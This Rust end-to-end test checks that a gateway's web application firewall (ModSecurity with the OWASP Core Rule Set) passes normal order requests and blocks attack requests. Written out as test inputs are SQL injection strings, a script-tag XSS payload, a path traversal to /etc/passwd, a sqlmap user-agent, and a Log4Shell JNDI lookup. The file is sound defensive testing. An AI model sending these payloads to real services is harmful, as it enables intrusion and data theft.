//! Tests of `ext_proc` with a web application firewall: libmodsecurity with the OWASP Core Rule Set
//! (`tests/peers/modsecurity.py`).

use e2e::gateway::{Gateway, Options};
use e2e::peers::{self, Peer};
use e2e::project::Project;
use e2e::upstream::Upstream;
use serde_json::Value;

const DOCUMENT: &str = r#"openapi: 3.1.0
info: {title: s, version: "1"}
paths:
  /orders:
    get: {operationId: find, x-gateway: {public: true}, responses: {"200": {description: ok}}}
    post: {operationId: create, x-gateway: {public: true}, responses: {"200": {description: ok}}}
"#;

fn released(main: &Upstream, processor: &Value) -> Project {
    let gateway = format!(
        "version: 1\nname: s\napis: {{s: {{path: openapi.yaml}}}}\n\
         listeners: {{public: {{address: \"127.0.0.1:8080\"}}}}\n\
         upstreams:\n  main: {{targets: {{a: {{url: \"{}\"}}}}}}\n  \
           waf: {{protocol: h2c, targets: {{a: {{url: \"http://127.0.0.1:{processor}\"}}}}}}\n\
         policies:\n  \
           firewall: {{kind: ext_proc, upstream: waf, request_body: buffered, timeout: 5s}}\n\
         defaults: {{upstream: main, policies: [firewall]}}\n\
         release: {{store: releases, channel: prod}}\n",
        main.url(),
    );
    let project = Project::with(&gateway, DOCUMENT);
    project.keygen();
    project.apply();
    project
}

/// Sends a request, with a JSON body if there is one. Returns the status and the rule that refused it.
fn ask(gateway: &Gateway, target: &str, agent: &str, json: Option<&str>) -> (u16, Option<String>) {
    let method = if json.is_some() { "POST" } else { "GET" };
    let mut request = format!(
        "{method} {target} HTTP/1.1\r\nhost: shop.test\r\nuser-agent: {agent}\r\naccept: */*\r\n"
    );
    if let Some(body) = json {
        let length = body.len();
        request += &format!("content-type: application/json\r\ncontent-length: {length}\r\n");
    }
    request = request + "\r\n" + json.unwrap_or_default();
    let mut connection = gateway.connect();
    connection.send(request.as_bytes()).expect("gwd reads");
    let response = connection.read_response(false).expect("gwd answers");
    let rule = response.header("x-rule").map(str::to_owned);
    (response.status, rule)
}

#[test]
fn core_rule_set_refuses_attacks_and_no_orders() {
    let started = peers::firewall().and_then(|folder| {
        let port = "0".into();
        Peer::python("modsecurity.py", &[folder.into_os_string(), port])
    });
    let Some(processor) = started else {
        return prerequisite::skip(peers::MISSING);
    };
    let main = Upstream::start();
    let project = released(&main, &processor.greeting()["port"]);
    let gateway = Options::of(&project).start();
    let agent = "shop/1.0";
    let orders = [
        ("/orders", None),
        ("/orders?q=red%20shoes&size=42&sort=-price", None),
        ("/orders?q=caf%C3%A9", None),
        (
            "/orders",
            Some(r#"{"item": "shoes", "count": 2, "note": "gift, please"}"#),
        ),
        (
            "/orders",
            Some(r#"{"items": [{"id": "a-1", "tags": ["new"]}], "total": 19.9}"#),
        ),
    ];
    for (target, json) in orders {
        assert_eq!(ask(&gateway, target, agent, json), (200, None), "{target}");
    }
    assert_eq!(main.take().len(), orders.len());
    // The rule counts what the other rules have found.
    let refused = (403, Some("949110".to_owned()));
    for (target, agent, json) in [
        ("/orders?q=1%27%20OR%20%271%27=%271%27--", agent, None),
        ("/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", agent, None),
        ("/orders?file=../../../../etc/passwd", agent, None),
        ("/orders", "sqlmap/1.0", None),
        (
            "/orders",
            agent,
            Some(r#"{"item": "1' UNION SELECT password FROM users--"}"#),
        ),
        ("/orders", agent, Some(r#"{"item": "${jndi:ldap://x/a}"}"#)),
    ] {
        let got = ask(&gateway, target, agent, json);
        assert_eq!(got, refused, "{target} {agent} {json:?}");
    }
    assert!(main.take().is_empty());
    let labels = ["policy=\"firewall\"", "reason=\"ext_proc_denied\""];
    let counted = gateway.metrics().sum("gwd_rejections_total", &labels);
    assert!((counted - 6.0).abs() < 0.1, "{counted}");
}
